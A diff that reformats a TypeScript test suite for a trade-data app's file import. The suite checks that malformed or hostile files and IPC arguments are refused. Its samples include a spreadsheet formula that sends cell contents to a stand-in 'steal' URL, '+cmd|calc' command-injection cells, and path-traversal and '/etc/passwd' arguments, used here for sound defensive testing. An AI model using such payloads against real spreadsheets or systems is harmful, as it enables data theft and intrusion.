@@ -34,7 +34,11 @@ const write = (name: string, content: string | Buffer) => {
 }
 
 /** The import fails with this message, and nothing in the library changed. */
-async function refused(path: string, message: string | RegExp, mapping?: Parameters<TestServices['importPath']>[1]) {
+async function refused(
+  path: string,
+  message: string | RegExp,
+  mapping?: Parameters<TestServices['importPath']>[1],
+) {
   let error: unknown
   try {
     await t.importPath(path, mapping)
@@ -52,12 +56,20 @@ async function refused(path: string, message: string | RegExp, mapping?: Paramet
 async function nothingLost() {
   expect(t.manifest()).toBe(before)
   expect(t.stagingLeft()).toEqual([])
-  const b = await t.services.imports.breakdown({ dataset: existing, reporter: 'china', flow: 'exports', by: 'partner', top: 10 })
+  const b = await t.services.imports.breakdown({
+    dataset: existing,
+    reporter: 'china',
+    flow: 'exports',
+    by: 'partner',
+    top: 10,
+  })
   expect(b.world).toBe(400 * B)
 }
 
-const LEGACY = 'Classification,Year,Period,Period Desc.,Aggregate Level,Is Leaf Code,Trade Flow Code,Trade Flow,Reporter Code,Reporter,Reporter ISO,Partner Code,Partner,Partner ISO,Commodity Code,Commodity,Qty Unit Code,Qty Unit,Qty,Netweight (kg),Trade Value (US$),Flag'
-const legacyRow = (i: number, value: string) => `HS,2019,2019,2019,0,0,2,Export,156,China,CHN,${4 + (i % 50)},X,,TOTAL,All Commodities,1,No Quantity,,,${value},0`
+const LEGACY =
+  'Classification,Year,Period,Period Desc.,Aggregate Level,Is Leaf Code,Trade Flow Code,Trade Flow,Reporter Code,Reporter,Reporter ISO,Partner Code,Partner,Partner ISO,Commodity Code,Commodity,Qty Unit Code,Qty Unit,Qty,Netweight (kg),Trade Value (US$),Flag'
+const legacyRow = (i: number, value: string) =>
+  `HS,2019,2019,2019,0,0,2,Export,156,China,CHN,${4 + (i % 50)},X,,TOTAL,All Commodities,1,No Quantity,,,${value},0`
 
 describe('hostile files', () => {
   it('an empty file', async () => {
@@ -65,7 +77,10 @@ describe('hostile files', () => {
   })
 
   it('a header and no data', async () => {
-    await refused(write('header-only.csv', `${LEGACY}\n`), 'header-only.csv: has a header row but no data rows.')
+    await refused(
+      write('header-only.csv', `${LEGACY}\n`),
+      'header-only.csv: has a header row but no data rows.',
+    )
   })
 
   it('binary garbage', async () => {
@@ -75,30 +90,62 @@ describe('hostile files', () => {
   })
 
   it('a single 50 MB line', async () => {
-    await refused(write('one-line.csv', Buffer.alloc(50 * 1024 * 1024, 'a,')), 'one-line.csv: line 1 is longer than 1 MB with no line break: this is not a table the app can read.')
+    await refused(
+      write('one-line.csv', Buffer.alloc(50 * 1024 * 1024, 'a,')),
+      'one-line.csv: line 1 is longer than 1 MB with no line break: this is not a table the app can read.',
+    )
   })
 
   it('ragged rows: the line and the counts', async () => {
-    const lines = [LEGACY, legacyRow(1, '100'), legacyRow(2, '200'), legacyRow(3, '300').replace(',0\n', '').replace(/,0$/, '')]
-    await refused(write('ragged.csv', `${lines.join('\n')}\n`), 'ragged.csv: line 4: the row has 21 values but the header row names 22 columns. Rows must all have the same number of values.')
+    const lines = [
+      LEGACY,
+      legacyRow(1, '100'),
+      legacyRow(2, '200'),
+      legacyRow(3, '300').replace(',0\n', '').replace(/,0$/, ''),
+    ]
+    await refused(
+      write('ragged.csv', `${lines.join('\n')}\n`),
+      'ragged.csv: line 4: the row has 21 values but the header row names 22 columns. Rows must all have the same number of values.',
+    )
   })
 
   it('a duplicate column name', async () => {
-    await refused(write('dup.csv', 'date,value,Value\n2024-01,1,2\n'), "dup.csv: the header row names the column 'Value' twice (columns 2 and 3). Rename one of them and try again.")
+    await refused(
+      write('dup.csv', 'date,value,Value\n2024-01,1,2\n'),
+      "dup.csv: the header row names the column 'Value' twice (columns 2 and 3). Rename one of them and try again.",
+    )
   })
 
   it('a column without a name', async () => {
-    await refused(write('noname.csv', 'date,,value\n2024-01,x,1\n'), 'noname.csv: column 2 has no name in the header row. Give every column a name and try again.')
+    await refused(
+      write('noname.csv', 'date,,value\n2024-01,x,1\n'),
+      'noname.csv: column 2 has no name in the header row. Give every column a name and try again.',
+    )
   })
 
   it("mixed types: line 1 042: 'n/a' is not a number in column Trade Value (US$)", async () => {
-    const rows = Array.from({ length: 1100 }, (_, i) => legacyRow(i, i + 2 === 1042 ? 'n/a' : String(1000 + i)))
-    await refused(write('comtrade-bad.csv', `${[LEGACY, ...rows].join('\n')}\n`), "comtrade-bad.csv: line 1 042: 'n/a' is not a number in column Trade Value (US$).")
+    const rows = Array.from({ length: 1100 }, (_, i) =>
+      legacyRow(i, i + 2 === 1042 ? 'n/a' : String(1000 + i)),
+    )
+    await refused(
+      write('comtrade-bad.csv', `${[LEGACY, ...rows].join('\n')}\n`),
+      "comtrade-bad.csv: line 1 042: 'n/a' is not a number in column Trade Value (US$).",
+    )
   })
 
   it('a cell that is not a period: found on its line', async () => {
-    const body = ['date,series,value', '2024-01,exports,1', '2024-02,exports,2', '2024-03,exports,3', 'abc,exports,4', '2024-05,exports,5']
-    await refused(write('bad-period.csv', `${body.join('\n')}\n`), "bad-period.csv: line 5: 'abc' is not a period (such as 2024, 2024-03 or 202403) in column date.")
+    const body = [
+      'date,series,value',
+      '2024-01,exports,1',
+      '2024-02,exports,2',
+      '2024-03,exports,3',
+      'abc,exports,4',
+      '2024-05,exports,5',
+    ]
+    await refused(
+      write('bad-period.csv', `${body.join('\n')}\n`),
+      "bad-period.csv: line 5: 'abc' is not a period (such as 2024, 2024-03 or 202403) in column date.",
+    )
   })
 
   it('an unknown encoding', async () => {
@@ -107,7 +154,10 @@ describe('hostile files', () => {
   })
 
   it('a ZIP archive or an Excel workbook', async () => {
-    await refused(write('book.xlsx', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(100, 1)])), /^book\.xlsx: is a ZIP archive or an Excel workbook/)
+    await refused(
+      write('book.xlsx', Buffer.concat([Buffer.from('PK\u0003\u0004', 'latin1'), Buffer.alloc(100, 1)])),
+      /^book\.xlsx: is a ZIP archive or an Excel workbook/,
+    )
   })
 
   it('a data package that points outside its folder', async () => {
@@ -115,8 +165,14 @@ describe('hostile files', () => {
     const { mkdirSync } = await import('node:fs')
     mkdirSync(dir, { recursive: true })
     writeFileSync(join(t.userDataDir, 'secret.csv'), 't,i,j,k,v,q\n2022,156,842,010101,1,1\n')
-    writeFileSync(join(dir, 'datapackage.json'), JSON.stringify({ name: 'x', resources: [{ name: 'data', path: '../secret.csv' }] }))
-    await refused(join(dir, 'datapackage.json'), /^datapackage\.json: resource data points outside the package folder/)
+    writeFileSync(
+      join(dir, 'datapackage.json'),
+      JSON.stringify({ name: 'x', resources: [{ name: 'data', path: '../secret.csv' }] }),
+    )
+    await refused(
+      join(dir, 'datapackage.json'),
+      /^datapackage\.json: resource data points outside the package folder/,
+    )
   })
 
   it('a file deleted during the import', async () => {
@@ -128,28 +184,55 @@ describe('hostile files', () => {
 
   it('a file changed during the import', async () => {
     const path = write('changing.csv', readFileSync(fixture('comtrade-plus-china-2024.csv')))
-    const unsubscribe = onPhase('normalising', () => appendFileSync(path, readFileSync(fixture('comtrade-plus-china-2024.csv'), 'utf8').split('\n')[1] + '\n'))
-    await refused(path, 'changing.csv: changed while it was being imported (another program wrote to it). Nothing was saved; open it again when it is complete.')
+    const unsubscribe = onPhase('normalising', () =>
+      appendFileSync(
+        path,
+        readFileSync(fixture('comtrade-plus-china-2024.csv'), 'utf8').split('\n')[1] + '\n',
+      ),
+    )
+    await refused(
+      path,
+      'changing.csv: changed while it was being imported (another program wrote to it). Nothing was saved; open it again when it is complete.',
+    )
     unsubscribe()
   })
 
   it.runIf(existsSync('/dev/full'))('a full disk while writing', async () => {
     t.hooks.outputPath = (name, standard) => (name === 'facts.parquet' ? '/dev/full' : standard)
-    await refused(write('full.csv', readFileSync(fixture('comtrade-legacy-2019.csv'))), 'full.csv: the disk is full, so the import was stopped and nothing was saved. Free some space and try again.')
+    await refused(
+      write('full.csv', readFileSync(fixture('comtrade-legacy-2019.csv'))),
+      'full.csv: the disk is full, so the import was stopped and nothing was saved. Free some space and try again.',
+    )
   })
 
   it('formula-injection cells are stored as text, never evaluated, and escaped in any CSV the app writes', async () => {
     const hyperlink = '=HYPERLINK("http://example.com/steal?x="&A1,"Click")'
-    const body = ['date,partner,value', `2024-01,"${hyperlink.replaceAll('"', '""')}",5`, '2024-01,+cmd|calc,3', '2024-01,@SUM(1+1),2']
+    const body = [
+      'date,partner,value',
+      `2024-01,"${hyperlink.replaceAll('"', '""')}",5`,
+      '2024-01,+cmd|calc,3',
+      '2024-01,@SUM(1+1),2',
+    ]
     const path = write('formulas.csv', `${body.join('\n')}\n`)
     const granted = await t.services.imports.grant(path, 'dialog')
     const inspected = await t.services.imports.inspect(granted.fileId)
     expect(inspected.preview[0]?.[1]).toBe(hyperlink)
-    const d = (await t.services.imports.importFile(granted.fileId, { ...inspected.guess!, partner: 1 })).dataset!
-    const b = await t.services.imports.breakdown({ dataset: d.id, reporter: 'china', flow: 'value', by: 'partner', top: 10 })
+    const d = (await t.services.imports.importFile(granted.fileId, { ...inspected.guess!, partner: 1 }))
+      .dataset!
+    const b = await t.services.imports.breakdown({
+      dataset: d.id,
+      reporter: 'china',
+      flow: 'value',
+      by: 'partner',
+      top: 10,
+    })
     expect(b.rows.map((r) => r.label)).toEqual([hyperlink, '+cmd|calc', '@SUM(1+1)'])
     const csv = toCsv(b.rows.map((r) => [r.label, r.value]))
-    expect(csv.split('\r\n').slice(0, 3)).toEqual([`"'${hyperlink.replaceAll('"', '""')}",5`, "'+cmd|calc,3", "'@SUM(1+1),2"])
+    expect(csv.split('\r\n').slice(0, 3)).toEqual([
+      `"'${hyperlink.replaceAll('"', '""')}",5`,
+      "'+cmd|calc,3",
+      "'@SUM(1+1),2",
+    ])
     expect(csvCell('-12.5')).toBe('-12.5')
   })
 })
@@ -161,7 +244,9 @@ describe('cancel', () => {
     const row = readFileSync(fixture('comtrade-plus-china-2024.csv'), 'utf8').split('\n')[1]
     const path = write('big.csv', `${header}\n${`${row}\n`.repeat(90_000)}`)
     const granted = await t.services.imports.grant(path, 'dialog')
-    const unsubscribe = onPhase('normalising', () => setTimeout(() => t.services.imports.cancel(granted.fileId), 5))
+    const unsubscribe = onPhase('normalising', () =>
+      setTimeout(() => t.services.imports.cancel(granted.fileId), 5),
+    )
     const outcome = await t.services.imports.importFile(granted.fileId)
     unsubscribe()
     expect(outcome).toEqual({ status: 'cancelled', dataset: null })
@@ -170,11 +255,17 @@ describe('cancel', () => {
   })
 
   it('Cancel just before the commit leaves no trace either', async () => {
-    const granted = await t.services.imports.grant(write('late.csv', readFileSync(fixture('baci-hs17-2022.csv'))), 'dialog')
+    const granted = await t.services.imports.grant(
+      write('late.csv', readFileSync(fixture('baci-hs17-2022.csv'))),
+      'dialog',
+    )
     t.hooks.beforeCommit = async () => {
       t.services.imports.cancel(granted.fileId)
     }
-    expect(await t.services.imports.importFile(granted.fileId)).toEqual({ status: 'cancelled', dataset: null })
+    expect(await t.services.imports.importFile(granted.fileId)).toEqual({
+      status: 'cancelled',
+      dataset: null,
+    })
     await nothingLost()
   })
 })
@@ -185,22 +276,31 @@ describe('paths sent over IPC are refused', () => {
     ['a relative path', { fileId: '../../secret.csv' }, 'INVALID_ARGUMENT'],
     ['a file: URL', { fileId: 'file:///etc/passwd' }, 'INVALID_ARGUMENT'],
     ['a path field', { path: '/etc/passwd' }, 'INVALID_ARGUMENT'],
-    ['an id plus a path', { fileId: 'f-0123456789abcdef0123456789abcdef', path: '/etc/passwd' }, 'INVALID_ARGUMENT'],
-    ['a forged id', { fileId: 'f-0123456789abcdef0123456789abcdef' }, 'NOT_FOUND']
+    [
+      'an id plus a path',
+      { fileId: 'f-0123456789abcdef0123456789abcdef', path: '/etc/passwd' },
+      'INVALID_ARGUMENT',
+    ],
+    ['a forged id', { fileId: 'f-0123456789abcdef0123456789abcdef' }, 'NOT_FOUND'],
   ])('%s', async (_what, args, code) => {
     const handlers = createHandlers(t.services)
     for (const method of ['inspectImport', 'importFile', 'cancelImport'] as const) {
       const answer = await dispatch(handlers, method, args)
       expect(answer).toMatchObject({ ok: false, error: { code } })
-      if (!answer.ok && code === 'NOT_FOUND') expect(answer.error.message).toContain('only opens files you chose')
+      if (!answer.ok && code === 'NOT_FOUND')
+        expect(answer.error.message).toContain('only opens files you chose')
     }
     await nothingLost()
   })
 
   it('grant() itself refuses what is not an existing regular file', async () => {
-    await expect(t.services.imports.grant('relative/path.csv', 'drop')).rejects.toThrow('not a file the app can open')
+    await expect(t.services.imports.grant('relative/path.csv', 'drop')).rejects.toThrow(
+      'not a file the app can open',
+    )
     await expect(t.services.imports.grant(t.userDataDir, 'drop')).rejects.toThrow('is not a regular file')
-    await expect(t.services.imports.grant(join(t.userDataDir, 'nope.csv'), 'drop')).rejects.toThrow('does not exist')
+    await expect(t.services.imports.grant(join(t.userDataDir, 'nope.csv'), 'drop')).rejects.toThrow(
+      'does not exist',
+    )
   })
 })
 
